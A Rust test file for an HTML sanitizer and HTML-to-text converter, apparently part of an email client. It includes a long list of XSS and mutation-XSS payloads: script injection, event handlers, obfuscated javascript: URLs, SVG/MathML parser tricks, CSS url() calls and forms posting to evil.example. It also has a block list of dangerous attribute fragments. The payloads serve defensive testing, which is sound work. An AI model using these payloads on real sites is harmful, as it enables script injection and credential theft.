//! What may come out of HTML, and how it reads as text.

use proptest::prelude::*;

use super::{clean, to_text};

const LIMIT: usize = 1 << 20;

fn cleaned(html: &str) -> String {
    clean(html, LIMIT).html
}

fn text(html: &str) -> String {
    to_text(&cleaned(html), LIMIT).0
}

// What no output may hold, outside of text: it is looked for in the tags only.
fn assert_is_harmless(html: &str) {
    let out = cleaned(html);
    let mut rest = out.as_str();
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |end| start + end + 1);
        let tag = rest[start..end].to_ascii_lowercase();
        let name: String = tag[1..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '/').collect();
        let is_known = super::elements::known(name.trim_start_matches('/')).is_some();
        assert!(is_known, "{tag} came out of {html:?}");
        for bad in [
            " on",
            "javascript:",
            "vbscript:",
            "srcset",
            "formaction",
            "srcdoc",
            "url(",
            "expression",
            "position",
            "data:text",
        ] {
            let in_words = bad == " on" && (tag.contains("alt=") || tag.contains("title="));
            assert!(in_words || !tag.contains(bad), "{tag} came out of {html:?}");
        }
        assert!(!tag.contains(" src=\"http") && !tag.contains(" src=\"/"), "{tag} came out of {html:?}");
        rest = &rest[end..];
    }
    assert_eq!(cleaned(&out), out, "from {html:?}");
}

#[test]
fn nothing_that_runs_loads_or_frames_comes_out() {
    let cases = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)>",
        "<script>a<b</script ><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror='alert(1)'>",
        "<img src=\"x\" alt='\"><script>alert(1)</script>'>",
        "<img src=x:x onerror\n=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<img src=javascript:alert(1)>",
        "<img srcset='https://evil.example/a.png 1x'>",
        "<img src=data:text/html;base64,PHNjcmlwdD4=>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math href='javascript:alert(1)'>x</math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template><style></template><img src=x onerror=alert(1)></style>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
        "<a href=' \u{1}javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='/\\evil.example'>x</a>",
        "<a href='//evil.example/x'>x</a>",
        "<a href=https://ok.example onclick=alert(1) onmouseover=alert(1)>x</a>",
        "<a href='https://ok.example' target=_top ping=https://evil.example>x</a>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'><a href='x'>x</a>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=https://evil.example></frameset>",
        "<object data=https://evil.example/x.swf></object>",
        "<embed src=https://evil.example/x.swf>",
        "<applet code=x></applet>",
        "<video src=https://evil.example/x.mp4 poster=https://evil.example/p.png onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1) background=https://evil.example/b.png>",
        "<table background=https://evil.example/b.png><tr><td background='javascript:alert(1)'>x</td></tr></table>",
        "<div style='background-image:url(https://evil.example/p.png)'>x</div>",
        "<div style=\"background:url('https://evil.example/p.png') no-repeat\">x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='wid\\74h:expr/**/ession(alert(1))'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style='margin-top:-500px;padding:-3px;display:block'>x</div>",
        "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</div>",
        "<div style='list-style:url(https://evil.example/p.png);content:url(x)'>x</div>",
        "<div style='color:red;font-family:&quot;a&quot;;}x{background:url(https://evil.example)}'>x</div>",
        "<p style='font:1px \"}</style><script>alert(1)</script>\"'>x</p>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<select><noembed></select><script>x='<style></noembed><img src=x onerror=alert(1)>'</script>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "</p/onerror=alert(1)><img src=x onerror=alert(1)",
        "<p id=x name=getElementById class=y>x</p>",
        "<table><caption><svg><title><table><tr><td><svg><title></title></svg></td></tr></table>",
        "<b><table><tr><td></b><script>alert(1)</script></td></tr></table>",
        "<a><table><a><img src=x onerror=alert(1)></a></table></a>",
        "\u{0}<img\u{0} src=x one\u{0}rror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<x onclick=alert(1) style='x'>y</x>",
        "<select><template shadowrootmode=open><script>alert(1)</script></template></select>",
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    ];
    for case in cases {
        assert_is_harmless(case);
    }
}

#[test]
fn usual_pages_keep_what_they_look_like() {
    let cases = [
        ("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"),
        ("<P>one<P>two", "<p>one</p><p>two</p>"),
        (
            "<a href=\"https://shop.example/a?b=1&amp;c=2\">x</a>",
            "<a href=\"https://shop.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        (
            "<td>x<table width=100% bgcolor='#ffffff'><td align=center>y",
            "x<table width=\"100%\" bgcolor=\"#ffffff\"><tbody><tr><td align=\"center\">y</td></tr></tbody></table>",
        ),
        ("<div style='COLOR: Red; position:absolute'>x</div>", "<div style=\"color:Red\">x</div>"),
        (
            "<span style='font-family:\"A B\",serif;font-size:12px !important'>x</span>",
            "<span style=\"font-family:'A B',serif;font-size:12px\">x</span>",
        ),
        ("<div style='display:none'>x</div>", "<div style=\"display:none\">x</div>"),
        ("<img src='cid:a%40b.example' width=10>", "<img src=\"cid:a%40b.example\" width=\"10\">"),
        ("<img src='//shop.example/a.png'>", "<img data-src=\"https://shop.example/a.png\">"),
        ("<img alt='our logo'>", "our logo"),
        ("1 < 2 && 3 > 2", "1 &lt; 2 &amp;&amp; 3 &gt; 2"),
        ("<o:p>x</o:p>", "x"),
    ];
    for (html, expected) in cases {
        assert_eq!(cleaned(html), expected, "from {html}");
        assert_is_harmless(html);
    }
}

#[test]
fn remote_images_wait_and_small_pictures_stay() {
    let page = clean("<img src=https://track.example/p.gif><img src='cid:one@x.example'>", LIMIT);
    assert!(page.has_remote_images);
    assert_eq!(page.shown, ["one@x.example"]);
    assert!(!clean("<img src='cid:one@x.example'>", LIMIT).has_remote_images);
    let picture = |size: usize| format!("<img src=\"data:image/png;base64,{}\">", "A".repeat(size));
    assert!(cleaned(&picture(1000)).contains("data:image/png"));
    assert!(!cleaned(&picture(200_000)).contains("data:image/png"));
}

#[test]
fn a_page_reads_as_text() {
    let cases = [
        ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("a  b\n c&nbsp;d", "a b c d"),
        ("<ul><li>one<li>two<ul><li>deep</ul></ul>", "- one\n- two\n  - deep"),
        ("<ol start=3><li><p>three</p><li>four</ol>", "3. three\n\n4. four"),
        ("<a href='https://shop.example/'>shop.example</a>", "shop.example"),
        ("<a href='https://shop.example/x'>here</a>", "here (https://shop.example/x)"),
        ("<a href='mailto:a@b.example'>a@b.example</a>", "a@b.example"),
        ("<table><tr><td>a<td>b<tr><td>c<td>d</table>", "a b\nc d"),
        (
            "<p>new</p><blockquote>old<blockquote>older</blockquote></blockquote>after",
            "new\n\n> old\n> > older\n\nafter",
        ),
        ("<blockquote><p>a</p><p>b</p></blockquote>", "> a\n>\n> b"),
        ("<pre>\n a\n  b</pre>c", " a\n  b\n\nc"),
        ("<div style='display:none'>hidden</div>seen", "seen"),
        ("<style>p{}</style><title>t</title><p>x</p>", "x"),
        ("fish &amp; chips &lt;3 &eacute; &#8364;", "fish & chips <3 é €"),
        ("<h1>Title</h1>text", "Title\n\ntext"),
        ("<img src='cid:x' alt='a cat'>", "[a cat]"),
        ("<p>a\u{ad}b\u{200b}c</p>", "abc"),
    ];
    for (html, expected) in cases {
        assert_eq!(text(html), expected, "from {html}");
    }
}

#[test]
#[allow(clippy::disallowed_methods)] // Measures; the bound is far above what a slow machine takes.
fn hostile_pages_take_no_time() {
    // Ten times slower without optimisation: a tenth of the size.
    let size = if cfg!(debug_assertions) { LIMIT / 10 } else { LIMIT };
    let many = |piece: &str| piece.repeat(size / piece.len());
    let fonts: String = (0..size / 12).map(|n| format!("<b a={n}>")).collect();
    let pages = [
        many("<div>"),
        many("<b>"),
        many("<p><font>x"),
        many("<table><td>"),
        many("<table><tr><td><div><p>"),
        many("<a><div>"),
        many("<blockquote>x<br>"),
        many("<svg>"),
        many("<title>"),
        many("<!--"),
        many("<x a=1 b=2 c=3 "),
        many("</div>"),
        many("<"),
        many("&"),
        many("&a"),
        many("&#"),
        many("&amp;"),
        many("&foo;"),
        many("&#65;"),
        many("&notit;"),
        many("<p title='&&'>"),
        many("<p title='&foo;'>"),
        format!("<p title='{}'>", "&foo;".repeat(25_000)),
        many("<li><ul>"),
        fonts + &"<p>x</p>".repeat(size / 20),
    ];
    for page in pages {
        let start = std::time::Instant::now();
        let page = clean(&page, LIMIT);
        assert!(page.html.len() <= LIMIT);
        assert!(to_text(&page.html, LIMIT).0.len() <= LIMIT);
        assert!(start.elapsed().as_secs() < 10, "{:?} for {}", start.elapsed(), &page.html[..page.html.len().min(60)]);
    }
}

fn piece() -> impl Strategy<Value = String> {
    const NAMES: &[&str] = &[
        "a",
        "b",
        "p",
        "div",
        "table",
        "tbody",
        "tr",
        "td",
        "th",
        "ul",
        "ol",
        "li",
        "dd",
        "dt",
        "h1",
        "h2",
        "pre",
        "blockquote",
        "font",
        "span",
        "img",
        "hr",
        "br",
        "svg",
        "math",
        "style",
        "script",
        "template",
        "form",
        "select",
        "option",
        "caption",
        "col",
        "title",
        "textarea",
        "noscript",
        "x",
        "center",
        "em",
        "s",
        "address",
        "main",
        "button",
        "body",
        "frameset",
    ];
    let name = || prop::sample::select(NAMES);
    let value = "(style|href|src|title|align|onclick)=(\"|'|)[a-z:;/(#&\u{1}-]{0,12}(\"|'|)";
    prop_oneof![
        3 => name().prop_map(|name| format!("<{name}>")),
        3 => name().prop_map(|name| format!("</{name}>")),
        1 => (name(), value).prop_map(|(name, value)| format!("<{name} {value}>")),
        2 => "[ \\n]{0,2}[a-z&<>\"' ]{0,5}",
        1 => "(<!--|-->|<!|]]>|&lt;|&#0;|&#13;|&nbsp;|&quot;|\\PC)",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]
    #[test]
    fn cleaning_twice_changes_nothing(pieces in prop::collection::vec(piece(), 0..40)) {
        let html = pieces.concat();
        let out = cleaned(&html);
        prop_assert!(!out.contains('\0'));
        prop_assert_eq!(cleaned(&out), out);
    }

    #[test]
    fn any_characters_can_be_cleaned(html in "\\PC{0,200}", limit in 0usize..300) {
        let page = clean(&html, limit);
        prop_assert!(page.html.len() <= limit);
        prop_assert!(to_text(&page.html, limit).0.len() <= limit);
    }
}
